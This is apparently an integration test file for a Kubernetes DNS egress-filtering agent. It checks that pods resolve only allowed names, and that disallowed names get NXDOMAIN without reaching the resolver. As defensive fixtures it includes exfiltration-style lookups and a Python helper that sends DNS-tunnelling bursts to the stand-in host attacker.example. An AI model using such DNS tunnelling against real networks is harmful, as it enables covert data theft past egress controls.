/*
 * DNS queries are policy, end to end: the real agent, a real dnsmasq that
 * logs every query it receives, and real resolver libraries in the pods
 * (dig, and glibc through Python's socket.getaddrinfo) with a Kubernetes
 * resolv.conf (search list, ndots:5). A name outside the pod's rules gets
 * NXDOMAIN from the kernel at once and never reaches the resolver.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  existsSync,
  writeFileSync,
  readdirSync,
  rmdirSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { requireKernelTestEnv, OUTSIDE_LINK_V4, OUTSIDE_LINK_V6 } from '../helpers/topology.js';
import { withAgentBox, type AgentBox } from '../helpers/agent-fixture.js';
import { egressctl } from '../helpers/egressctl.js';
import { queriesFor } from '../helpers/query-log.js';

const TOOLS = ['dnsmasq', 'dig', 'python3', 'nsenter', 'curl'];
const SEARCH = 'shop.svc.cluster.local svc.cluster.local cluster.local';

/** dnsmasq: authoritative for cluster.local (NXDOMAIN for unknown names), and it would answer anything under attacker.example. */
function resolverArgs(log: string): string[] {
  return [
    '--log-queries',
    `--log-facility=${log}`,
    '--local=/cluster.local/',
    '--host-record=kubernetes.default.svc.cluster.local,198.51.100.11',
    '--address=/attacker.example/198.51.100.10',
  ];
}

/** Run fn with a query log file and a pod-namespace resolv.conf (ip netns exec mounts /etc/netns/NAME/resolv.conf); both removed after. */
async function withQueryLog(fn: (log: string, resolvConf: (netns: string) => void) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'fqe-dnsq-'));
  const log = join(dir, 'queries.log');
  const made: string[] = [];
  const netnsRoot = '/etc/netns';
  const rootExisted = existsSync(netnsRoot);
  try {
    await fn(log, (netns) => {
      const d = join(netnsRoot, netns);
      mkdirSync(d, { recursive: true });
      made.push(d);
      writeFileSync(
        join(d, 'resolv.conf'),
        `nameserver ${OUTSIDE_LINK_V4.outside}\nsearch ${SEARCH}\noptions ndots:5 timeout:2 attempts:1\n`,
      );
    });
  } finally {
    for (const d of made) rmSync(d, { recursive: true, force: true });
    if (!rootExisted && existsSync(netnsRoot) && readdirSync(netnsRoot).length === 0) rmdirSync(netnsRoot);
    rmSync(dir, { recursive: true, force: true });
  }
}

async function digFull(
  box: AgentBox,
  pod: string,
  name: string,
  opts: { type?: string; server?: string; tcp?: boolean } = {},
): Promise<{ status: string; answers: string[]; ms: number; text: string }> {
  const args = [
    'dig',
    `@${opts.server ?? OUTSIDE_LINK_V4.outside}`,
    '+time=1',
    '+tries=1',
    ...(opts.tcp ? ['+tcp'] : []),
    name,
    opts.type ?? 'A',
  ];
  const t0 = performance.now();
  // dig exits non-zero without an answer; its stdout says why (a timeout, a reset)
  const r = await box.topo.exec(box.topo.pod(pod).netns, ['sh', '-c', '"$@" || true', 'sh', ...args]);
  const ms = performance.now() - t0;
  const status = /status: (\w+)/.exec(r.stdout)?.[1] ?? 'NO-ANSWER';
  const answers = r.stdout
    .split('\n')
    .filter((l) => /\sIN\s+(A|AAAA)\s/.test(l) && !l.startsWith(';'))
    .map((l) => l.trim().split(/\s+/).pop()!);
  return { status, answers, ms, text: r.stdout };
}

/** glibc's resolver, through Python: the addresses or the error, and how long it took. */
async function getaddrinfo(
  box: AgentBox,
  pod: string,
  name: string,
): Promise<{ addrs: string[]; error: string | null; ms: number }> {
  const script = [
    'import socket, sys, time, json',
    't = time.monotonic()',
    'try:',
    '  r = sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET, socket.SOCK_STREAM)}); e = None',
    'except socket.gaierror as x:',
    '  r = []; e = x.strerror',
    'print(json.dumps({"addrs": r, "error": e, "ms": (time.monotonic() - t) * 1000}))',
  ].join('\n');
  const out = await box.topo.exec(box.topo.pod(pod).netns, ['python3', '-c', script, name]);
  return JSON.parse(out.stdout) as { addrs: string[]; error: string | null; ms: number };
}

/** Tunnelling-style queries (random hex under attacker.example, TXT and A), one at a time: how many came back NXDOMAIN. */
async function tunnelBurst(
  box: AgentBox,
  pod: string,
  count: number,
  server = OUTSIDE_LINK_V4.outside,
): Promise<{ nxdomain: number; seconds: number }> {
  const script = `
import socket, struct, random, sys, time, json
server, n = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1.0)
nx = 0
t = time.monotonic()
for i in range(n):
    qid = random.randrange(65536)
    name = '%032x.attacker.example' % random.getrandbits(128)
    q = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 16 if i % 2 else 1, 1)
    s.sendto(q, (server, 53))
    try:
        while True:
            d = s.recv(4096)
            if struct.unpack('>H', d[:2])[0] == qid:
                break
        if d[3] & 0xf == 3:
            nx += 1
    except socket.timeout:
        pass
print(json.dumps({"nxdomain": nx, "seconds": time.monotonic() - t}))
`;
  const out = await box.topo.exec(box.topo.pod(pod).netns, ['python3', '-c', script, server, String(count)], 120_000);
  return JSON.parse(out.stdout) as { nxdomain: number; seconds: number };
}

test('dig and glibc: allowed and cluster names resolve, other names get NXDOMAIN from the kernel at once and never reach the resolver (IPv4, IPv6, UDP, TCP)', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withQueryLog(async (log, resolvConf) => {
    await withAgentBox(t, [{ name: 'payments' }], { dnsmasqArgs: resolverArgs(log) }, async (box) => {
      resolvConf(box.topo.pod('payments').netns);
      box.writePods([{ name: 'payments', allow: 'api.stripe.test:443, *.kadath.test' }]);
      await box.startAgent();

      // glibc with the search list: api.stripe.test.shop.svc.cluster.local & co. pass (cluster domain), then the name itself
      const ok = await getaddrinfo(box, 'payments', 'api.stripe.test');
      assert.deepEqual(ok.addrs, ['203.0.113.10'], `glibc resolves an allowed name (${ok.error})`);
      assert.equal(await box.connect('payments', '203.0.113.10', 443), true, 'and connects');
      assert.ok(
        queriesFor(log, 'api.stripe.test.shop.svc.cluster.local').length > 0,
        'search-list names under cluster.local pass',
      );
      const cluster = await getaddrinfo(box, 'payments', 'kubernetes.default.svc.cluster.local');
      assert.deepEqual(cluster.addrs, ['198.51.100.11'], 'a cluster name resolves');

      const refused = await getaddrinfo(box, 'payments', 'secret-0123abcd.attacker.example');
      assert.deepEqual(refused.addrs, []);
      assert.ok(refused.error, 'glibc reports the name as unknown');
      assert.ok(refused.ms < 1000, `well under a second (${refused.ms.toFixed(1)} ms)`);
      assert.deepEqual(queriesFor(log, 'secret-0123abcd.attacker.example'), [], 'the resolver never saw it');

      for (const [server, tcp] of [
        [OUTSIDE_LINK_V4.outside, false],
        [OUTSIDE_LINK_V6.outside, false],
        [OUTSIDE_LINK_V4.outside, true],
        [OUTSIDE_LINK_V6.outside, true],
      ] as const) {
        const how = `${server.includes(':') ? 'IPv6' : 'IPv4'} ${tcp ? 'TCP' : 'UDP'}`;
        const allowed = await digFull(box, 'payments', 'www.kadath.test', { server, tcp });
        assert.deepEqual(
          [allowed.status, allowed.answers],
          ['NOERROR', ['203.0.113.11']],
          `an allowed wildcard name resolves (${how})`,
        );
        const leak = `leak-${tcp ? 't' : 'u'}${server.includes(':') ? '6' : '4'}.attacker.example`;
        const r = await digFull(box, 'payments', leak, { server, tcp, type: 'TXT' });
        if (tcp) {
          assert.equal(r.status, 'NO-ANSWER', `over TCP a refused query gets no answer (${how})`);
          assert.match(r.text, /reset/i, `the connection is reset (${how}): ${r.text}`);
        } else {
          assert.equal(r.status, 'NXDOMAIN', `NXDOMAIN (${how})`);
        }
        assert.ok(r.ms < 1000, `at once (${how}: ${r.ms.toFixed(1)} ms)`);
        assert.deepEqual(queriesFor(log, leak), [], `the resolver never saw ${leak}`);
      }
      assert.equal(
        (await digFull(box, 'payments', 'kadath.test')).status,
        'NXDOMAIN',
        'the apex of a wildcard is not allowed',
      );
      assert.equal((await digFull(box, 'payments', 'API.Stripe.TEST')).status, 'NOERROR', 'case does not matter');
    });
  });
});

test('a burst of 1,000 tunnelling queries: none reaches the resolver; audit passes and reports; opt-out passes; the agent down: still filtered', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withQueryLog(async (log) => {
    await withAgentBox(
      t,
      [{ name: 'payments' }, { name: 'auditor' }, { name: 'legacy' }],
      { dnsmasqArgs: resolverArgs(log) },
      async (box) => {
        box.writePods([
          { name: 'payments', allow: 'api.stripe.test' },
          { name: 'auditor', allow: 'api.stripe.test', mode: 'audit' },
          { name: 'legacy', allow: 'api.stripe.test', dnsFilter: 'off' },
        ]);
        await box.startAgent();

        const burst = await tunnelBurst(box, 'payments', 1000);
        assert.equal(burst.nxdomain, 1000, 'every query answered NXDOMAIN');
        const seen = readFileSync(log, 'utf8')
          .split('\n')
          .filter((l) => /attacker\.example from/.test(l));
        assert.deepEqual(seen, [], 'none reached the resolver');
        const v6 = await tunnelBurst(box, 'payments', 50, OUTSIDE_LINK_V6.outside);
        assert.equal(v6.nxdomain, 50, 'over IPv6 too');

        const audited = await digFull(box, 'auditor', 'audit-me.attacker.example');
        assert.deepEqual(
          [audited.status, audited.answers],
          ['NOERROR', ['198.51.100.10']],
          'audit mode lets the query pass',
        );
        assert.equal(queriesFor(log, 'audit-me.attacker.example').length, 1);
        const optedOut = await digFull(box, 'legacy', 'opted-out.attacker.example');
        assert.equal(optedOut.status, 'NOERROR', 'fqdn-egress.io/dns-filter: off lets the query pass');

        await box.waitFor(
          'dns-name events counted',
          async () => (await box.metric('fqdn_egress_events_total', { reason: 'dns-name', kind: 'audit' })) >= 1,
        );
        assert.ok((await box.metric('fqdn_egress_events_total', { reason: 'dns-name', kind: 'drop' })) >= 1);
        const drops = await egressctl(['drops', '--output', 'json', '--limit', '2000', '--pin-dir', box.topo.pinDir]);
        assert.equal(drops.code, 0, drops.stderr);
        const list = (JSON.parse(drops.stdout) as { drops: Array<Record<string, any>> }).drops;
        const audit = list.find((d) => d.pod === 'shop/auditor' && d.reason === 'dns-name');
        assert.deepEqual(
          [audit?.kind, audit?.name, audit?.queryType, audit?.port],
          ['audit', 'audit-me.attacker.example', 'A', 53],
        );
        assert.ok(
          list.some(
            (d) =>
              d.pod === 'shop/payments' &&
              d.kind === 'drop' &&
              d.reason === 'dns-name' &&
              /^[0-9a-f]{32}\.attacker\.example$/.test(d.name) &&
              ['A', 'TXT'].includes(d.queryType),
          ),
          'the refused names are shown',
        );
        const table = await egressctl(['drops', '--pod', 'shop/auditor', '--pin-dir', box.topo.pinDir]);
        assert.match(table.stdout, /dns-name .*audit-me\.attacker\.example \(A query\)/);
        const counters = box.maps((dp) => dp.maps.counters.entries());
        assert.ok(
          counters.some(([, c]) => c.reasons['dns-name'] >= 1000n),
          'counted as dns-name',
        );

        assert.equal(await box.stopAgent('SIGTERM'), 0);
        const down = await digFull(box, 'payments', 'agent-down.attacker.example');
        assert.equal(down.status, 'NXDOMAIN', 'the agent down: still filtered');
        assert.deepEqual(queriesFor(log, 'agent-down.attacker.example'), []);
        assert.equal(
          (await digFull(box, 'payments', 'api.stripe.test')).status,
          'NOERROR',
          'and allowed names still resolve',
        );
      },
    );
  });
});
